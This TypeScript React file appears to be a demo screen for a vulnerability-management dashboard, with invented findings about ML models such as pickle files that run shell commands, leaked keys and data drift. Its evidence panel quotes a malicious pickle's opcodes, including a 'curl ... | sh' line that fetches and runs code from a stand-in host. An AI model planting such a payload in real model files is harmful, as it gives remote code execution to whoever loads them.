/** A list with views, filters, selection and a peek. */
import { Download, Undo2, Upload } from 'lucide-react';
import { useState } from 'react';
import { Avatar } from '../../src/ui/avatar.tsx';
import { BulkBar } from '../../src/ui/bulk-bar.tsx';
import { Button } from '../../src/ui/button.tsx';
import { CountLine } from '../../src/ui/count-line.tsx';
import { DataTable } from '../../src/ui/data-table.tsx';
import { DueBar } from '../../src/ui/due-bar.tsx';
import { Evidence } from '../../src/ui/evidence.tsx';
import type { FilterField } from '../../src/ui/filter.ts';
import { FilterBar } from '../../src/ui/filter-bar.tsx';
import { InertCode } from '../../src/ui/inert-text.tsx';
import { Mark } from '../../src/ui/mark.tsx';
import { Peek } from '../../src/ui/peek.tsx';
import { useQueryValue } from '../../src/ui/query-state.ts';
import { SavedViews } from '../../src/ui/saved-views.tsx';
import { type Factor, Score } from '../../src/ui/score.tsx';
import { Screen } from '../../src/ui/screen.tsx';
import { Section } from '../../src/ui/section.tsx';
import { SeverityChip, SeverityShape, StatusShape, StatusWord } from '../../src/ui/severity.tsx';
import { TwoLines } from '../../src/ui/table-body.tsx';
import type { Column } from '../../src/ui/table-column.ts';
import { PhoneRow } from '../../src/ui/table-phone.tsx';
import { toast } from '../../src/ui/toast-store.ts';
import { useFilters } from '../../src/ui/use-filters.ts';
import type { MarkName, Severity, Status } from '../../src/ui/words.ts';

const hour = 3_600_000;
const now = Date.now();
type Row = {
  id: string;
  severity: Severity;
  priority: number;
  range: string | null;
  title: string;
  rule: string;
  asset: string;
  owner: string | null;
  due: number | null;
  status: Status;
};
const row = (
  id: string,
  severity: Severity,
  priority: number,
  title: string,
  rule: string,
  asset: string,
  owner: string | null,
  dueDays: number | null,
  status: Status = 'open',
  range: string | null = null,
): Row => ({
  id,
  severity,
  priority,
  range,
  title,
  rule,
  asset,
  owner,
  due: dueDays === null ? null : now + dueDays * 24 * hour,
  status,
});
const rows: Row[] = [
  row(
    'VUL-3391',
    'critical',
    95,
    'Loading claims-triage 4.2 runs a shell command',
    'pickle-shell-call',
    'claims-triage',
    'Tobias Lindqvist',
    0.35,
  ),
  row(
    'VUL-3377',
    'critical',
    92,
    'send_payment changed after it was approved',
    'mcp-tool-drift',
    'quotes-mcp',
    'Aiko Brandt',
    1.1,
    'in-progress',
  ),
  row('VUL-3362', 'high', 88, 'Live storage key in intake_prep.ipynb', 'secret-cloud-key', 'intake-docs', null, 2.2),
  row('VUL-3348', 'high', 84, 'torchlite 1.8.2 reads past a tensor bound', 'CVE-2099-20417', 'embed-notes', 'Priya Raman', 6.3),
  row(
    'VUL-3340',
    'high',
    81,
    'Chat template output depends on user text',
    'template-injection',
    'policy-helper',
    'Sami Korhonen',
    8.2,
    'in-progress',
  ),
  row(
    'VUL-3333',
    'high',
    72,
    'Quote endpoint answers without a caller identity',
    'endpoint-no-auth',
    'tariff-quotes',
    'Aiko Brandt',
    12.2,
    'open',
    '64–81',
  ),
  row('VUL-3320', 'high', 70, 'Membership can be told at AUC 0.74', 'privacy-membership', 'claims-triage', 'Priya Raman', null, 'on-hold'),
  row('VUL-3311', 'medium', 58, '9 of 41 columns drifted, worst PSI 0.31', 'data-drift', 'intake-docs', 'Priya Raman', 19.2),
  row(
    'VUL-3301',
    'medium',
    55,
    'Weights stored as pickle beside safetensors',
    'format-unsafe-twin',
    'embed-notes',
    'Tobias Lindqvist',
    24.2,
    'resolved-claimed',
  ),
  row(
    'VUL-3290',
    'medium',
    49,
    'Unregistered endpoint answers as a chat model',
    'shadow-endpoint',
    '10.20.4.18:8080',
    null,
    11.2,
    'open',
    '41–63',
  ),
  row(
    'VUL-3288',
    'medium',
    44,
    'Selection rate differs by 0.12 between regions',
    'fairness-parity',
    'claims-triage',
    'Priya Raman',
    28.2,
    'risk-accepted',
  ),
  row('VUL-3277', 'low', 31, 'Licence of the base model is not stated', 'licence-missing', 'claims-triage', 'Tobias Lindqvist', 120.2),
  row(
    'VUL-3260',
    'low',
    27,
    'Model card lists no training data',
    'card-no-data',
    'draft-scorer-2',
    'Tobias Lindqvist',
    133.2,
    'false-positive',
  ),
  row(
    'VUL-3255',
    'informational',
    12,
    'Pickle protocol 2 in use',
    'format-pickle',
    'fraud-graph',
    'Tobias Lindqvist',
    null,
    'resolved-verified',
  ),
];
const columns: Column<Row>[] = [
  { id: 'severity', head: 'Severity', headHidden: true, width: 28, cell: ({ severity }) => <SeverityShape severity={severity} /> },
  {
    id: 'priority',
    head: 'P',
    width: 52,
    align: 'right',
    sort: 'priority',
    cell: ({ priority, range }) => (
      <>
        <b className="text-row font-strong">{priority}</b>
        {range && <span className="block text-count leading-4 text-ink-2">{range}</span>}
      </>
    ),
  },
  { id: 'title', head: 'What is wrong', primary: true, cell: ({ title, rule }) => <TwoLines title={title} second={rule} mono /> },
  {
    id: 'asset',
    head: 'Asset',
    width: 112,
    hideUnder: 620,
    cell: ({ asset }) => (
      <span className="block truncate text-ink-2" title={asset}>
        {asset}
      </span>
    ),
  },
  { id: 'owner', head: 'Owner', headHidden: true, width: 34, cell: ({ owner }) => <Avatar name={owner} /> },
  {
    id: 'due',
    head: 'Due',
    width: 90,
    sort: 'due',
    cell: ({ due, status }) => <DueBar due={due} start={now - 30 * hour} onHold={status === 'on-hold'} />,
  },
  { id: 'status', head: 'Status', headHidden: true, width: 46, cell: ({ status }) => <StatusShape status={status} /> },
];
const fields: FilterField[] = [
  {
    key: 'severity',
    label: 'severity',
    kind: 'choice',
    choices: [
      { value: 'critical', label: 'Critical' },
      { value: 'high', label: 'High' },
      { value: 'medium', label: 'Medium' },
    ],
  },
  {
    key: 'environment',
    label: 'environment',
    kind: 'choice',
    choices: [
      { value: 'production', label: 'production' },
      { value: 'staging', label: 'staging' },
    ],
  },
  { key: 'department', label: 'department', kind: 'text' },
  { key: 'priority', label: 'priority', kind: 'number' },
  { key: 'due', label: 'due', kind: 'date' },
  { key: 'accepted', label: 'accepted risks', kind: 'presence' },
];
const views = [
  ['All open', 1284],
  ['Fix first', 12],
  ['Mine', 7],
  ['Due this week', 23],
  ['Breached', 11],
  ['KEV', 4],
  ['New since yesterday', 40],
  ['Unowned', 9],
  ['Unknown exposure', 31],
].map(([name, count]) => ({ id: String(name), name: String(name), count: Number(count), to: '/vulnerabilities' }));
const byId = ({ id }: Row) => id;
const byTitle = ({ title }: Row) => title;
const toRow = ({ id }: Row) => `/vulnerabilities?peek=${id}`;

export function VulnerabilitiesScene() {
  const [peekId, setPeekId] = useQueryValue('peek');
  const [selected, select] = useState<ReadonlySet<string>>(new Set());
  const [newCount, setNewCount] = useState(12);
  const [sort, setSort] = useState({ by: 'priority', descending: true });
  const filters = useFilters(fields);
  const index = rows.findIndex(({ id }) => id === peekId);
  const open = rows[index];
  const go = (to: Row | undefined) => to && (() => setPeekId(to.id));
  return (
    <Screen
      title="Vulnerabilities"
      actions={
        <>
          <Button icon={Download}>Export</Button>
          <Button icon={Upload}>Import</Button>
        </>
      }
      toolbar={
        <>
          <SavedViews
            label="Views"
            views={views}
            current="All open"
            onChoose={() => undefined}
            isChanged={!filters.isEmpty}
            onReset={filters.clear}
          />
          <FilterBar fields={fields} filters={filters} onSaveView={() => toast({ text: 'Saved the view' })} />
          <CountLine shown={38} total={1284} newCount={newCount} onShowNew={() => setNewCount(0)} order="Priority, highest first" />
        </>
      }
      peek={
        open ? (
          <OpenPeek
            row={open}
            index={index}
            onPrevious={go(rows[index - 1])}
            onNext={go(rows[index + 1])}
            onClose={() => setPeekId(null)}
          />
        ) : null
      }
    >
      <DataTable
        label="Vulnerabilities"
        rows={rows}
        rowId={byId}
        rowName={byTitle}
        rowTo={toRow}
        columns={columns}
        openId={peekId}
        onOpen={({ id }) => setPeekId(id)}
        selection={{ ids: selected, onChange: select }}
        total={1284}
        viewKey="gallery"
        sort={{ ...sort, onChange: (by, descending) => setSort({ by, descending }) }}
        rowKeys={[
          { keys: 'e', label: 'Assign', run: ({ id }) => toast({ text: `Assigned ${id}`, undo: () => toast({ text: 'Taken back' }) }) },
        ]}
        phone={(one, { first }) => (
          <PhoneRow
            shape={<SeverityShape severity={one.severity} size={15} />}
            title={one.title}
            figure={one.priority}
            reason={<span className="mono text-mark text-ink-3">{one.rule}</span>}
            owner={one.asset}
            due={<DueBar due={one.due} start={now - 30 * hour} />}
            actions={
              first ? (
                <>
                  <Button kind="primary">Roll back to 4.1</Button>
                  <Button>Assign</Button>
                </>
              ) : undefined
            }
          />
        )}
      />
      <BulkBar selected={selected.size} total={1284} onWholeFilter={() => undefined} onClear={() => select(new Set())}>
        <Button keys="e">Assign</Button>
        <Button keys="s">Status</Button>
      </BulkBar>
    </Screen>
  );
}

const factor = (name: string, reason: string, mark: MarkName, points: number, unknown = false): Factor => ({
  id: name,
  name,
  reason,
  mark,
  points,
  unknown,
});
const factors = [
  factor('Threat', 'exploited here: alert 2 min ago', 'observed', 30),
  factor('Path', '2 paths to claims-ledger', 'inferred', 14),
  factor('Technical', 'CVSS 4.0 base 9.3', 'static', 13),
  factor('Criticality', 'business impact high', 'declared', 12),
  factor('Run time', 'loaded on scoring-7', 'observed', 9),
  factor('Data', 'personal data', 'observed', 8),
  factor('Privilege', 'runs as claims-svc, high', 'imported', 6),
  factor('Exposure', 'no scan of the network; half of the most assumed', 'inferred', 3, true),
];

type OpenPeekProps = {
  row: Row;
  index: number;
  onPrevious: (() => void) | undefined;
  onNext: (() => void) | undefined;
  onClose: () => void;
};
function OpenPeek({ row: one, index, onPrevious, onNext, onClose }: OpenPeekProps) {
  return (
    <Peek
      recordId={one.id}
      name={one.id}
      title={one.title}
      place={{ index: index + 1, of: 38 }}
      onPrevious={onPrevious}
      onNext={onNext}
      onClose={onClose}
      to={`/vulnerabilities/${one.id}`}
      facts={
        <>
          <SeverityChip severity={one.severity} />
          <StatusWord status={one.status} />
          <Mark mark="static" />
          <Mark mark="observed" />
        </>
      }
      summary={
        <>
          The file <InertCode text="model/head.pkl" /> calls <InertCode text="posix.system" /> when it is opened. It was opened on scoring-7
          two minutes ago; the call was blocked.
        </>
      }
      foot={
        <>
          <span>Findings 3</span>
          <span>Paths 2</span>
          <span>History 6</span>
          <span>Comments 1</span>
        </>
      }
    >
      <Section inset="peek" title="Why it matters">
        <Score name="Priority" value={one.priority} low={92} high={98} factors={factors} />
      </Section>
      <Section inset="peek" title="Who owns it">
        <p className="flex items-center gap-2">
          <Avatar name={one.owner} />
          <span className="font-name">{one.owner ?? 'Nobody'}</span>
          <span className="text-ink-2">owner of {one.asset}</span>
          <span className="ml-auto">
            <DueBar due={one.due} start={now - 30 * hour} />
          </span>
        </p>
      </Section>
      <Section inset="peek" title="Next action">
        <p className="pb-2.5 text-read text-ink-2">
          Roll back to 4.1. It holds the same weights as safetensors, and was scanned clean on 9 May. Ends 3 vulnerabilities and 2 attack
          paths.
        </p>
        <p className="flex flex-wrap gap-2">
          <Button kind="primary" icon={Undo2}>
            Roll back to 4.1
          </Button>
          <Button keys="e">Assign</Button>
          <Button keys="s">Status</Button>
        </p>
      </Section>
      <Section inset="peek" title="Evidence">
        <Evidence
          facts={{
            opcodes: [
              { offset: 2, name: 'GLOBAL', argument: 'posix.system', marked: true },
              { offset: 18, name: 'TEXT', argument: '"curl -s http://203.0.113.7/i | sh"' },
              { offset: 61, name: 'REDUCE', argument: 'call', marked: true },
            ],
          }}
          source="head.pkl, 412 bytes"
        />
      </Section>
    </Peek>
  );
}
